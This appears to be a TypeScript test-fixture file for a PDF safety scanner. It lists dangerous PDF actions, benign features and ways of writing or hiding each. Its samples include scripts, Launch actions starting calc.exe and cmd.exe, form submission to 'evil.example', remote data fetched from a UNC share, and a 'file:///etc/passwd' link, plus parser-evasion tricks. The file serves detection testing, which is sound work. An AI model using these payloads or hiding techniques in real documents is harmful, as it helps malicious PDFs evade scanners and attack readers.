// What a PDF may hold and what it may not, and the ways in which each can be written: every one of the first in every one of the second.

import {
  behindTheEnd,
  DEFLATED,
  escaped,
  interrupted,
  objectStreamPdf,
  PACKINGS,
  type PdfThing,
  plainPdf,
  spaced,
  updatedPdf,
  withinPdf,
} from "../../../testing/pdf-forge.ts";
import type { ContentFault } from "./content-fault.ts";

export type Danger = PdfThing & { what: string; reason: ContentFault["reason"] };

const onOpening = (action: string): PdfThing => ({ catalog: "/OpenAction 10 0 R", objects: [action] });
const onClick = (action: string): PdfThing => ({
  page: "/Annots [10 0 R]",
  objects: ["<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A 11 0 R >>", action],
});
const annotation = (body: string): PdfThing => ({ page: "/Annots [10 0 R]", objects: [body] });
const active = (what: string, thing: PdfThing): Danger => ({ what, reason: "ACTIVE_CONTENT", ...thing });

export const DANGERS: readonly Danger[] = [
  active("a script that runs on opening", onOpening("<< /S /JavaScript /JS (app.alert\\(1\\)) >>")),
  active("a script in hexadecimal", onOpening("<< /S /JavaScript /JS <6170702E616C6572742831293B> >>")),
  active("a script in a stream", {
    catalog: "/OpenAction 10 0 R",
    objects: ["<< /S /JavaScript /JS 11 0 R >>", "<< /Length 13 >>\nstream\napp.alert(1);\nendstream"],
  }),
  active("a script by name", {
    catalog: "/Names << /JavaScript << /Names [(start) 10 0 R] >> >>",
    objects: ["<< /S /JavaScript /JS (app.alert\\(1\\)) >>"],
  }),
  active("a script when the page is turned", { page: "/AA << /O << /S /JavaScript /JS (x) >> >>" }),
  active("a script when a field is left", {
    catalog: "/AcroForm << /Fields [10 0 R] >>",
    objects: ["<< /FT /Tx /T (name) /AA << /Bl << /S /JavaScript /JS (x) >> >> >>"],
  }),
  active("a script behind a link", {
    page: "/Annots [10 0 R]",
    objects: [
      "<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << /S /URI /URI (https://a.example/) /Next 11 0 R >> >>",
      "<< /S /JavaScript /JS (x) >>",
    ],
  }),
  active("a program that is started", onOpening("<< /S /Launch /F (calc.exe) >>")),
  active("a program by its parts", onClick("<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>")),
  active(
    "a form that sends itself",
    onClick("<< /S /SubmitForm /F << /FS /URL /F (https://evil.example) >> >>"),
  ),
  active("data that are fetched", onOpening("<< /S /ImportData /F (\\\\\\\\evil\\\\share\\\\x.fdf) >>")),
  active("a way to another file", onClick("<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>")),
  active("a way to a file within", onClick("<< /S /GoToE /T << /R /C /N (x) >> >>")),
  active("a sound or film that plays", onOpening("<< /S /Rendition /OP 0 /JS (x) >>")),
  active("a film", annotation("<< /Type /Annot /Subtype /Movie /Rect [0 0 9 9] /Movie << >> >>")),
  active("a sound", onOpening("<< /S /Sound /Sound 11 0 R >>")),
  active("a screen", annotation("<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] >>")),
  active("rich media", annotation("<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>")),
  active("a model in three dimensions", annotation("<< /Type /Annot /Subtype /3D /Rect [0 0 9 9] >>")),
  active("a thread of another file", onOpening("<< /S /Thread /F (other.pdf) /D 0 >>")),
  active("a picture from another file", {
    page: "/Extra 10 0 R",
    objects: ["<< /Subtype /Form /Ref << /F (\\\\\\\\evil\\\\share\\\\a.pdf) /Page 0 >> >>"],
  }),
  active("an address that is a script", onClick("<< /S /URI /URI (javascript:alert\\(1\\)) >>")),
  active("an address on the reader's machine", onClick("<< /S /URI /URI (file:///etc/passwd) >>")),
  {
    what: "an embedded program",
    reason: "EMBEDDED_FILES",
    catalog: "/Names << /EmbeddedFiles << /Names [(setup.exe) 10 0 R] >> >>",
    objects: [
      "<< /Type /Filespec /UF 12 0 R /EF << /F 11 0 R >> >>",
      "<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ\u0090\u0000\nendstream",
      "(setup.exe)",
    ],
  },
  {
    what: "an embedded file that nothing names",
    reason: "EMBEDDED_FILES",
    page: "/AF [10 0 R]",
    objects: ["<< /Type /Filespec /EF << /F 11 0 R >> >>", "<< /Length 2 >>\nstream\nhi\nendstream"],
  },
  {
    what: "a file pinned to the page",
    reason: "EMBEDDED_FILES",
    ...annotation("<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 11 0 R >>"),
  },
  {
    what: "an XFA form",
    reason: "INTERACTIVE_FORM",
    catalog: "/AcroForm << /Fields [] /XFA 10 0 R >>",
    objects: ["<< /Length 12 >>\nstream\n<xdp:xdp/>  \nendstream"],
  },
];

/** What contracts are made of. */
export const HARMLESS: readonly (PdfThing & { what: string })[] = [
  { what: "nothing but a page" },
  { what: "a place to open at", catalog: "/OpenAction [3 0 R /Fit]" },
  { what: "a place to open at, as an action", ...onOpening("<< /S /GoTo /D [3 0 R /XYZ 0 842 1] >>") },
  {
    what: "a link to the web",
    ...onClick("<< /S /URI /URI (https://www.bondline.example/JS/JavaScript) >>"),
  },
  { what: "a link to a mailbox", ...onClick("<< /S /URI /URI (mailto:ada@harbourcivil.example) >>") },
  { what: "a link within", ...onClick("<< /S /GoTo /D (clause-2) >>") },
  { what: "a button to the next page", ...onClick("<< /S /Named /N /NextPage >>") },
  {
    what: "a form",
    catalog: "/AcroForm << /Fields [10 0 R 11 0 R] /NeedAppearances true >>",
    objects: [
      "<< /FT /Tx /T (name) /V (Harbour Civil Pty Ltd) /F 4 /Subtype /Widget /Rect [0 0 9 9] >>",
      "<< /FT /Btn /T (agreed) /V /Yes /AS /Yes /Subtype /Widget /Rect [0 0 9 9] /A << /S /ResetForm >> >>",
    ],
  },
  {
    what: "a signature",
    catalog: "/AcroForm << /Fields [10 0 R] /SigFlags 3 >> /Perms << /DocMDP 11 0 R >>",
    objects: [
      "<< /FT /Sig /T (signed) /V 11 0 R >>",
      "<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange [0 9 9 9] /Contents <00> /Reason (Launch of works) >>",
    ],
  },
  {
    what: "an outline that speaks of scripts",
    catalog: "/Outlines 10 0 R",
    objects: [
      "<< /Type /Outlines /First 11 0 R /Last 11 0 R /Count 1 >>",
      "<< /Title (Clause 4: /JavaScript \\(and /Launch\\) of works) /Parent 10 0 R /Dest [3 0 R /Fit] >>",
    ],
  },
  {
    what: "layers",
    catalog: "/OCProperties << /OCGs [10 0 R] /D << /Order [10 0 R] >> >>",
    objects: ["<< /Type /OCG /Name (Services) >>"],
  },
  {
    what: "structure and language",
    catalog: "/MarkInfo << /Marked true >> /Lang (en-AU) /StructTreeRoot 10 0 R",
    objects: ["<< /Type /StructTreeRoot /K [11 0 R] >>", "<< /S /Document /P 10 0 R /K [0] >>"],
  },
  {
    what: "metadata",
    catalog: "/Metadata 10 0 R",
    objects: ["<< /Type /Metadata /Subtype /XML /Length 12 >>\nstream\n<x:xmpmeta/>\nendstream"],
  },
  {
    what: "a comment of a reader",
    ...annotation(
      "<< /Type /Annot /Subtype /Text /Rect [0 0 9 9] /Contents (See the file: it is attached) /F 28 >>",
    ),
  },
];

type Writing = (thing: PdfThing) => Buffer;

const inObjectStreams: [string, Writing][] = Object.entries(PACKINGS).map(([how, packing]) => [
  `in an object stream, ${how}`,
  (thing) => objectStreamPdf(thing, packing),
]);

/** How an honest program may write it. */
export const WRITINGS: Readonly<Record<string, Writing>> = {
  plain: plainPdf,
  ...Object.fromEntries(inObjectStreams),
  "with escaped names": (thing) => plainPdf(escaped(thing, "all")),
  "with odd spaces and remarks": (thing) => plainPdf(spaced(thing)),
  "added by an update": (thing) => updatedPdf({}, thing),
  "taken away by an update": (thing) => updatedPdf(thing, {}),
};

/** How only somebody who hides it does. */
export const HIDINGS: Readonly<Record<string, Writing>> = {
  "with each name's first letter escaped": (thing) => plainPdf(escaped(thing, "first")),
  "behind the end": behindTheEnd,
  "within a text": (thing) => withinPdf(thing, ["(", ")"]),
  "with a word that ends an object in its middle": (thing) => plainPdf(interrupted(thing)),
  "within a text that never ends": (thing) => withinPdf(thing, ["((((", ""]),
  "within a picture's bytes": (thing) =>
    withinPdf(thing, ["<< /Subtype /Image /Length 99999 /Filter /DCTDecode >>\nstream\n", "\nendstream"]),
  "within a stream, as if it were over": (thing) =>
    withinPdf(thing, ["<< /Length 9 >>\nstream\nendstream\nendobj\n", "\nendstream"]),
  "in an object stream that does not say so": (thing) => objectStreamPdf(thing, DEFLATED, ""),
  "in an object stream by an escaped name": (thing) =>
    objectStreamPdf(escaped(thing, "all"), DEFLATED, "/Type /Obj#53tm"),
  "with line ends of old machines": (thing) =>
    Buffer.from(plainPdf(thing).toString("latin1").replaceAll("\n", "\r"), "latin1"),
};
